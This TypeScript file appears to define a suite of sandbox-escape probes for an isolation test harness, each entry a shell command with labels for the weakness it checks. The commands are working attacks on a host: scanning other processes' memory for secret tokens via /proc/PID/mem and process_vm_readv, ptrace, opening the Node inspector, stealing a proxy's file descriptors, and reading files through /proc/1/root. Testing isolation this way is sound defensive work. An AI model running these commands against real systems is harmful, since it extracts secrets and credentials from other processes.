import type { Attack } from '../attack.ts'

/** Looks through the writable memory of a process. */
const scan = (pid: string): string => `perl -e 'my $p = shift; open my $maps, "<", "/proc/$p/maps" or die $!;
open my $mem, "<:raw", "/proc/$p/mem" or die $!;
while (<$maps>) { next unless /^([0-9a-f]+)-([0-9a-f]+) rw/; my ($from, $to) = (hex $1, hex $2); next if $to - $from > 3e8;
  sysseek $mem, $from, 0 or next; my $bytes; sysread $mem, $bytes, $to - $from or next;
  if ($bytes =~ /(lab-secret-[0-9a-f]{24})/) { print "$1\\n"; exit } }' ${pid}`

/** Other processes: the job's, and the proxy that holds the keys. */
export const processes: Attack[] = [
  {
    id: 'process-list',
    shell: 'ps -eo args | grep -v grep | grep -qE "lab-(victim|node)" && won',
    weak: ['processes', 'hidden processes'],
  },
  { id: 'process-folder', shell: '[ -d /proc/$VICTIM ] && won', weak: ['processes', 'hidden processes'] },
  { id: 'process-first', shell: 'cat /proc/1/cmdline | grep -q . && won', weak: ['hidden processes'] },
  { id: 'memory-victim', shell: scan('$VICTIM'), weak: 'root' },
  { id: 'memory-proxy', shell: scan('$PROXY_PID'), weak: 'root' },
  {
    id: 'memory-readv',
    shell: `perl -e 'my ($n, $p) = @ARGV; my ($heap, $end); open my $m, "<", "/proc/$p/maps" or die $!;
while (<$m>) { ($heap, $end) = (hex $1, hex $2) if /^([0-9a-f]+)-([0-9a-f]+).*\\[heap\\]/ } my $length = $end - $heap; my $to = "\\0" x $length;
my ($local, $remote) = (pack("PQ", $to, $length), pack("QQ", $heap, $length));
syscall($n, 0 + $p, $local, 1, $remote, 1, 0); print $to =~ /(lab-secret-[0-9a-f]+)/' $( [ $arm = 1 ] && echo 270 || echo 310) $VICTIM`,
    weak: 'root',
  },
  { id: 'ptrace-victim', shell: 'permitted "$(call 101 117 16 $VICTIM 0 0)"', weak: 'root' },
  { id: 'ptrace-proxy', shell: 'permitted "$(call 101 117 16 $PROXY_PID 0 0)"', weak: 'root' },
  { id: 'signal-victim', shell: 'kill -WINCH $VICTIM && won', weak: 'root' },
  { id: 'signal-proxy', shell: 'kill -0 $PROXY_PID && won', weak: 'root' },
  {
    id: 'inspector',
    shell:
      'for p in $VICTIM $PROXY_PID $((VICTIM + 1)); do kill -USR1 $p; done; for _ in 1 2 3 4 5; do sleep 0.2; tcp 127.0.0.1 9229 </dev/null >/dev/null & sleep 0.1; kill $! && won && break; done',
    weak: 'root',
  },
  { id: 'descriptors-proxy', shell: 'ls -l /proc/$PROXY_PID/fd | grep -q socket && won', weak: 'root' },
  {
    id: 'descriptor-theft',
    shell:
      'f=$(call 434 434 $PROXY_PID 0); f=${f%% *}; [ "$f" -ge 0 ] && permitted "$(perl -e \'my $f = syscall(434, 0 + shift, 0); my $r = syscall(438, $f, 1, 0); print "$r ", 0 + $!\' $PROXY_PID)"',
    weak: 'root',
  },
  { id: 'root-of-victim', shell: 'cat /proc/$VICTIM/root/etc/lab-secret', weak: 'root' },
  { id: 'root-of-first', shell: 'cat /proc/1/root/etc/lab-secret /proc/1/cwd/.git/config', weak: 'root' },
  { id: 'limits-of-victim', shell: 'prlimit --pid $VICTIM --nofile=64 && won', weak: 'root' },
  { id: 'oom-of-victim', shell: '[ -w /proc/$VICTIM/oom_score_adj ] && won', weak: 'root' },
  { id: 'namespaces-of-victim', shell: 'nsenter --target $VICTIM --mount --net true && won', weak: 'root' },
  {
    id: 'shared-memory',
    shell: "perl -e 'my $i = shmget(4242, 0, 0); defined $i or die; shmread($i, my $x, 0, 64); print $x'",
    weak: ['memory'],
  },
  { id: 'shared-memory-file', shell: 'cat /dev/shm/lab-secret', weak: 'user' },
]
